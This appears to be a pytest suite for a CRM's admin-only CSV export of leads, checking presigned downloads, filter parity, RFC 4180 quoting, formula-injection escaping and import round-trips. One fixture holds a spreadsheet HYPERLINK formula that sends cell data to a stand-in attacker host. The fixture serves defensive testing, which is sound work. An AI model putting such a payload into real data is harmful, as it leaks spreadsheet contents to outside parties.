"""GET /leads/export: admin only; every lead GET /leads would list with the same filters, in the
same order, written to S3 as UTF-8 CSV with a BOM (RFC 4180, cells escaped against formula
injection) and answered as a presigned download; the file imports back to the same values."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlparse

import pytest
import requests

from leads_shared.csv_format import IMPORT_COLUMNS
from tests.support.clients import Caller, Tenant, lead_body
from tests.support.csv_files import ImportPath, csv_bytes

BOM = b"\xef\xbb\xbf"
EXPORT_COLUMNS = ["id", *IMPORT_COLUMNS, "assigned_to_name", "created_at", "updated_at"]
HEADER = BOM + (
    b"id,first_name,last_name,email,phone,company,job_title,source,status,notes,tags,assigned_to,"
    b"assigned_to_name,created_at,updated_at\r\n"
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ANSWER_KEYS = {"download_url", "expires_at", "row_count", "filename"}


# ------------------------------------------------------------------ helpers
@pytest.fixture(scope="module")
def import_path(emulator) -> ImportPath:
    return ImportPath(emulator)


@pytest.fixture
def path(import_path: ImportPath) -> ImportPath:
    """The upload path with an empty queue: the queue is shared by the whole session."""
    import_path.purge()
    return import_path


def export(caller: Caller, **query: Any) -> dict[str, Any]:
    response = caller.get("/leads/export", query=query or None)
    assert response.status_code == 200, response.json
    assert set(response.json) == ANSWER_KEYS
    return response.json


def download(url: str) -> requests.Response:
    response = requests.get(url, timeout=10)
    assert response.status_code == 200
    return response


def exported_rows(answer: dict[str, Any]) -> list[dict[str, str]]:
    content = download(answer["download_url"]).content
    assert content.startswith(BOM)
    reader = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert reader.fieldnames == EXPORT_COLUMNS
    rows = list(reader)
    assert len(rows) == answer["row_count"]
    return rows


def listed(caller: Caller, **query: Any) -> list[dict[str, Any]]:
    """Every lead GET /leads lists with ``query``, page by page (100 a page)."""
    found: list[dict[str, Any]] = []
    page = 1
    while True:
        body = caller.get("/leads", query={**query, "per_page": 100, "page": page}).json
        found.extend(body["data"])
        if page >= body["last_page"]:
            assert len(found) == body["total"]
            return found
        page += 1


def cell(value: Any) -> str:
    """What the export writes for a value of the API's lead."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def import_file(caller: Caller, path: ImportPath, content: bytes, **options: Any) -> dict[str, Any]:
    started = caller.post("/leads/import", options or None)
    assert started.status_code == 201, started.json
    assert path.upload(started.json, content).status_code in (200, 201, 204)
    assert path.drain() == 1
    job = caller.get(f"/leads/imports/{started.json['import_id']}")
    assert job.status_code == 200 and job.json["status"] == "completed", job.json
    return job.json


def fields_of(lead: dict[str, Any]) -> dict[str, Any]:
    return {name: lead[name] for name in (*IMPORT_COLUMNS, "assigned_to_name")}


def as_text(lead: dict[str, Any]) -> str:
    return json.dumps(fields_of(lead), sort_keys=True)


FIRSTS = ["Ann", "ann", "Bob", "Émile", "Zoe", "carl", "Dana"]
LASTS = ["Smith", "adams", "O'Neil", "Zed"]
COMPANIES = [None, "Acme Inc", "beta GmbH", "Zeta LLC"]
SOURCES = ["Website", "Referral", "LinkedIn", None]
STATUSES = ["new", "contacted", "qualified", "disqualified"]


def seed(caller: Caller, count: int = 30, seed_value: int = 11) -> None:
    rng = random.Random(seed_value)
    for n in range(count):
        body = {
            "first_name": rng.choice(FIRSTS),
            "last_name": rng.choice(LASTS),
            "email": rng.choice([None, f"Lead{n}@Example.com", f"lead{n}@acme.example"]),
            "company": rng.choice(COMPANIES),
            "source": rng.choice(SOURCES),
            "status": rng.choice(STATUSES),
            "assigned_to": rng.choice([1, 2, 3, None]),
            "phone": rng.choice([None, f"+1 555 {n:04d}"]),
        }
        assert caller.post("/leads", {k: v for k, v in body.items() if v is not None}).status_code == 201


# ------------------------------------------------------------------ access and answer
def test_export_is_for_admins_only(tenant, alice, bob):
    alice.post("/leads", lead_body())
    for query in (None, {"redirect": "true"}):
        denied = bob.get("/leads/export", query=query)
        assert denied.status_code == 403 and set(denied.json) == {"message"}
        assert tenant.anonymous().get("/leads/export", query=query).status_code == 401
    assert alice.get("/leads/export").status_code == 200


def test_the_answer_is_a_presigned_download_valid_15_minutes(alice, tenant):
    alice.post("/leads", lead_body())
    answer = export(alice)
    assert answer["row_count"] == 1
    assert re.fullmatch(r"leads_\d{8}_\d{6}\.csv", answer["filename"])
    expires = datetime.fromisoformat(answer["expires_at"]) - datetime.now(UTC)
    assert timedelta(minutes=14) < expires <= timedelta(minutes=15)
    url = urlparse(answer["download_url"])
    params = {k: v[0] for k, v in parse_qs(url.query).items()}
    assert f"/tmp/exports/{tenant.tenant_id}/" in url.path and url.path.endswith(".csv")
    assert params["X-Amz-Algorithm"] == "AWS4-HMAC-SHA256" and params["X-Amz-Expires"] == "900"
    assert params["response-content-disposition"] == f'attachment; filename="{answer["filename"]}"'

    file = download(answer["download_url"])
    # The emulator honours response-content-disposition: a browser saves the file.
    assert file.headers["Content-Disposition"] == f'attachment; filename="{answer["filename"]}"'
    assert file.headers["Content-Type"].split(";")[0] == "text/csv"


def test_redirect_true_answers_303_to_the_file(alice):
    alice.post("/leads", lead_body(first_name="Redirected"))
    response = alice.get("/leads/export", query={"redirect": "true"})
    assert response.status_code == 303
    location = response.headers["Location"]
    assert location == response.json["download_url"]
    rows = exported_rows(response.json)
    assert [row["first_name"] for row in rows] == ["Redirected"]
    assert download(location).content.startswith(HEADER)
    assert alice.get("/leads/export", query={"redirect": "false"}).status_code == 200


def test_an_empty_tenant_exports_just_the_header(alice):
    answer = export(alice)
    assert answer["row_count"] == 0
    assert download(answer["download_url"]).content == HEADER


def test_invalid_filters_are_422_like_the_list(alice):
    for query, field in [({"status": "won"}, "status"), ({"sort_by": "phone"}, "sort_by"),
                         ({"assigned_to": "x"}, "assigned_to"), ({"scope": "world"}, "scope")]:  # fmt: skip
        response = alice.get("/leads/export", query=query)
        assert response.status_code == 422, query
        assert field in response.json["errors"]
        assert alice.get("/leads", query=query).status_code == 422


# ------------------------------------------------------------------ the file
def test_one_row_per_lead_with_the_lists_values(alice):
    seed(alice)
    alice.post("/leads", lead_body(email="named@example.com", assigned_to=3, tags="vip,inbound",
                                   notes="Met at the booth.", job_title="CTO"))  # fmt: skip
    answer = export(alice)
    rows = exported_rows(answer)
    leads = listed(alice)
    assert answer["row_count"] == len(leads) == 31
    assert [int(row["id"]) for row in rows] == [lead["id"] for lead in leads]
    for row, lead in zip(rows, leads, strict=True):
        assert row == {column: cell(lead[column]) for column in EXPORT_COLUMNS}
    named = next(row for row in rows if row["email"] == "named@example.com")
    assert (named["assigned_to"], named["assigned_to_name"]) == ("3", "Carol Chen")


FILTERS = [
    {},
    {"status": "contacted"},
    {"assigned_to": 2},
    {"sort_by": "created_at", "sort_dir": "DESC"},
    {"sort_by": "name", "sort_dir": "desc"},
    {"search": "acme"},
    {"search": "o'neil", "sort_by": "email"},
    {"source": "referral", "sort_by": "company_name", "sort_dir": "DESC"},
    {"scope": "me"},
    {"scope": "team", "sort_by": "assigned_to_name"},
    {"status": "new", "assigned_to": 3, "sort_by": "source"},
    {"date_from": "2000-01-01", "sort_by": "status", "sort_dir": "DESC"},
]
EMPTY_FILTERS = [{"date_to": "2000-01-01"}, {"search": "no such lead"}]


def test_filters_and_order_match_the_list(alice):
    seed(alice, count=40)
    for query in FILTERS + EMPTY_FILTERS:
        answer = export(alice, **query)
        rows = exported_rows(answer)
        expected = [lead["id"] for lead in listed(alice, **query)]
        assert [int(row["id"]) for row in rows] == expected, query
        assert answer["row_count"] == len(expected), query
        assert (len(expected) == 0) is (query in EMPTY_FILTERS), query  # each filter selects something
        if {"status", "assigned_to", "search", "source", "scope"} & set(query):
            assert len(expected) < 40, query  # ... and leaves something out


def test_more_leads_than_a_page_or_a_batch(alice, path):
    rows = [
        {"first_name": f"Person{n:03d}", "last_name": "Many", "email": f"p{n}@example.com",
         "company": "Acme" if n % 2 else "Other", "status": STATUSES[n % 4]}
        for n in range(230)
    ]  # fmt: skip
    assert import_file(alice, path, csv_bytes(rows))["created"] == 230
    for query in ({}, {"search": "acme"}, {"status": "new", "sort_dir": "DESC"}, {"sort_by": "email"}):
        answer = export(alice, **query)
        expected = [lead["id"] for lead in listed(alice, **query)]
        assert [int(row["id"]) for row in exported_rows(answer)] == expected, query
    assert export(alice)["row_count"] == 230


# ------------------------------------------------------------------ quoting and formula injection
RISKY = [
    lead_body(first_name="=Eve", last_name="Hacker", email="eve@example.com",
              company='=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
              notes="+1 555 0100 call back", tags="@team", job_title="-VP Sales", source="@twitter",
              phone="+44 20 7946 0000", assigned_to=3, status="contacted"),
    lead_body(first_name="Quote", last_name="O'Neil", email="quotes@example.com",
              company="Smith, Jones & Co", notes='She said "yes, maybe"\r\nFollow up, Monday\nThen "close"',
              tags="a,b,c"),
    lead_body(first_name="Plain", last_name="Lead", email="plain@example.com",
              notes="1+1=2 is fine inside", company="Apostrophe's Ltd", tags="x@y"),
]  # fmt: skip


def test_cells_are_escaped_against_formula_injection(alice):
    for body in RISKY:
        assert alice.post("/leads", body).status_code == 201
    answer = export(alice)
    raw = download(answer["download_url"]).content.decode("utf-8-sig")
    rows = {row["email"]: row for row in exported_rows(answer)}
    eve = rows["eve@example.com"]
    assert eve["company"] == "'" + RISKY[0]["company"]
    assert (eve["first_name"], eve["notes"], eve["tags"]) == ("'=Eve", "'+1 555 0100 call back", "'@team")
    assert (eve["job_title"], eve["source"], eve["phone"]) == ("'-VP Sales", "'@twitter", "'+44 20 7946 0000")
    plain = rows["plain@example.com"]
    assert plain["notes"] == "1+1=2 is fine inside"
    assert (plain["company"], plain["tags"]) == ("Apostrophe's Ltd", "x@y")
    # No cell of the file starts with what a spreadsheet would run.
    cells = [value for row in csv.reader(io.StringIO(raw, newline="")) for value in row]
    assert not [value for value in cells if value.startswith(FORMULA_STARTS)]
    assert """'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")""" in raw


def test_rfc_4180_quoting(alice):
    alice.post("/leads", RISKY[1])
    answer = export(alice)
    raw = download(answer["download_url"]).content
    lines_text = raw.decode("utf-8-sig")
    assert lines_text.endswith("\r\n")
    # Fields with a comma, a quote or a line break are quoted, quotes doubled; the rest are not.
    assert ',"Smith, Jones & Co",' in lines_text
    assert ',"She said ""yes, maybe""\r\nFollow up, Monday\nThen ""close""",' in lines_text
    assert ',"a,b,c",' in lines_text
    assert ",Quote,O'Neil,quotes@example.com," in lines_text
    (row,) = exported_rows(answer)
    assert row["notes"] == RISKY[1]["notes"] and row["company"] == "Smith, Jones & Co"


def test_an_export_imports_back_to_the_same_values(alice, other_tenant: Tenant, path):
    for body in RISKY:
        alice.post("/leads", body)
    seed(alice, count=12)
    content = download(export(alice)["download_url"]).content
    originals = {lead["id"]: lead for lead in listed(alice)}

    # Into another tenant (whose users have the same ids): the same leads.
    admin = other_tenant.as_user(1)
    job = import_file(admin, path, content)
    assert (job["created"], job["failed"], job["skipped"]) == (len(originals), 0, 0)
    assert job["unknown_columns"] == []  # id, assigned_to_name, created_at, updated_at are the export's
    copies = listed(admin, sort_by="created_at")
    assert sorted(map(as_text, copies)) == sorted(map(as_text, originals.values()))
    by_email = {lead["email"]: lead for lead in copies}
    eve = by_email["eve@example.com"]
    assert eve["company"] == RISKY[0]["company"]
    assert (eve["notes"], eve["tags"], eve["job_title"]) == ("+1 555 0100 call back", "@team", "-VP Sales")
    assert by_email["quotes@example.com"]["notes"] == RISKY[1]["notes"]

    # Back into the same tenant with mode=update (export, edit, re-import): nothing changes.
    job = import_file(alice, path, content, mode="update")
    with_email = [lead for lead in originals.values() if lead["email"]]
    assert (job["updated"], job["failed"]) == (len(with_email), 0)
    assert job["created"] == len(originals) - len(with_email)
    for lead in with_email:
        assert fields_of(alice.get(f"/leads/{lead['id']}").json) == fields_of(lead)


def test_a_value_starting_with_an_apostrophe_survives_the_round_trip(alice, other_tenant: Tenant, path):
    body = lead_body(email="apostrophe@example.com", company="'=not a formula", notes="'+1 as typed")
    alice.post("/leads", body)
    content = download(export(alice)["download_url"]).content
    admin = other_tenant.as_user(1)
    import_file(admin, path, content)
    (copy,) = listed(admin)
    assert (copy["company"], copy["notes"]) == ("'=not a formula", "'+1 as typed")
